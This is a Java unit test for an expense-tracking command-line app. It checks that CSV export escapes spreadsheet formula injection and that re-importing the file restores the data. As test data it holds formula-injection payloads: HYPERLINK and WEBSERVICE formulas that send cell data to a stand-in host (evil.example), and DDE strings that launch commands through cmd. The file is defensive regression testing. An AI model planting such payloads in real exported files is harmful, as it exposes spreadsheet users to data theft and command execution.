package app.outlay.cli;

import app.outlay.data.DatabaseSettings;
import app.outlay.settings.AppPaths;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 24, finding 3: text that a spreadsheet would run as a formula (merchant text from a bank, or anything a member
 * of a shared ledger typed) is exported so that it shows as text, numbers stay numbers, and importing the file gives
 * back exactly what was exported.
 */
class FormulaExportTest {

    @TempDir
    Path home;

    private Result run(String... args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        int code = CommandLineApp.run(AppPaths.under(home).createFolders(), args, new PrintWriter(out), new PrintWriter(err));
        return new Result(code, out.toString(), err.toString());
    }

    private record Result(int code, String out, String err) {
    }

    @Test
    void formulasAreExportedAsTextAndImportedBackUnchanged() throws Exception {
        assertThat(run("db", "migrate").code()).isZero();
        DatabaseSettings ledger = DatabaseSettings.h2(home.resolve("data/outlay"));
        execute(ledger, "insert into category (id, name, name_key, colour) values (50, '=1+1', '=1+1', '#000000')");
        insert(ledger, 1, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "12.50", null, "=WEBSERVICE(\"http://evil.example\")");
        insert(ledger, 2, "+cmd|' /C calc'!A0", "1.00", 50L, null);
        insert(ledger, 3, "@SUM(1+1)*cmd|' /C calc'!A0", "99999999999999999.99", null, "@note");
        insert(ledger, 4, "-5 off", "0.01", 1L, "-");
        insert(ledger, 5, "'=1+1", "3.00", null, "'quoted");
        insert(ledger, 6, "Bread", "2.40", 50L, "it's fine");
        List<List<String>> before = rows(ledger);

        Path file = home.resolve("export.csv");
        Result export = run("export", file.toString());
        assertThat(export.code()).as(export.err()).isZero();

        assertThat(Files.readString(file, StandardCharsets.UTF_8)).isEqualTo(String.join("\r\n",
                "date,description,amount,category,notes,kind,tags,split,currency,ledger_amount",
                "2026-03-01,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",12.50,,\"'=WEBSERVICE(\"\"http://evil.example\"\")\",expense,,,,",
                "2026-03-02,'+cmd|' /C calc'!A0,1.00,'=1+1,,expense,,,,",
                "2026-03-03,'@SUM(1+1)*cmd|' /C calc'!A0,99999999999999999.99,,'@note,expense,,,,",
                "2026-03-04,'-5 off,0.01,Groceries,'-,expense,,,,",
                "2026-03-05,''=1+1,3.00,,'quoted,expense,,,,",
                "2026-03-06,Bread,2.40,'=1+1,it's fine,expense,,,,", ""));

        execute(ledger, "delete from expense");
        execute(ledger, "delete from category where id = 50");
        Result imported = run("import", file.toString());
        assertThat(imported.code()).as(imported.err()).isZero();
        assertThat(imported.out()).startsWith("imported 6,").contains("created categories: =1+1");
        assertThat(rows(ledger)).isEqualTo(before);
    }

    @Test
    void theReportsCsvGuardsCategoryNamesToo() throws Exception {
        assertThat(run("db", "migrate").code()).isZero();
        DatabaseSettings ledger = DatabaseSettings.h2(home.resolve("data/outlay"));
        execute(ledger, "insert into category (id, name, name_key, colour) values (50, '@SUM(A1)', '@sum(a1)', '#000000')");
        insert(ledger, 1, "Thing", "5.00", 50L, null);
        Result report = run("report", "--month", "2026-03", "--format", "csv");
        assertThat(report.code()).as(report.err()).isZero();
        assertThat(report.out()).contains("'@SUM(A1),5.00,").doesNotContain("\n@SUM");
    }

    private static Connection connect(DatabaseSettings settings) throws SQLException {
        return DriverManager.getConnection(settings.jdbcUrl() + ";IFEXISTS=TRUE", settings.user(), "");
    }

    private static void execute(DatabaseSettings settings, String sql) throws SQLException {
        try (Connection connection = connect(settings); Statement statement = connection.createStatement()) {
            statement.execute(sql);
        }
    }

    private static void insert(DatabaseSettings settings, int day, String description, String amount, Long category, String notes)
            throws SQLException {
        try (Connection connection = connect(settings);
             PreparedStatement insert = connection.prepareStatement("insert into expense (id, spent_on, description, amount, "
                     + "category_id, notes, created_at, updated_at) values (?, ?, ?, ?, ?, ?, current_timestamp, current_timestamp)")) {
            insert.setLong(1, day);
            insert.setObject(2, java.time.LocalDate.of(2026, 3, day));
            insert.setString(3, description);
            insert.setBigDecimal(4, new java.math.BigDecimal(amount));
            insert.setObject(5, category);
            insert.setString(6, notes);
            insert.executeUpdate();
        }
    }

    private static List<List<String>> rows(DatabaseSettings settings) throws SQLException {
        List<List<String>> rows = new ArrayList<>();
        try (Connection connection = connect(settings); Statement statement = connection.createStatement();
             ResultSet rs = statement.executeQuery("select e.spent_on, e.description, e.amount, c.name, e.notes from expense e "
                     + "left join category c on c.id = e.category_id order by e.spent_on")) {
            while (rs.next()) {
                rows.add(java.util.Arrays.asList(rs.getString(1), rs.getString(2), rs.getString(3), rs.getString(4), rs.getString(5)));
            }
        }
        return rows;
    }
}
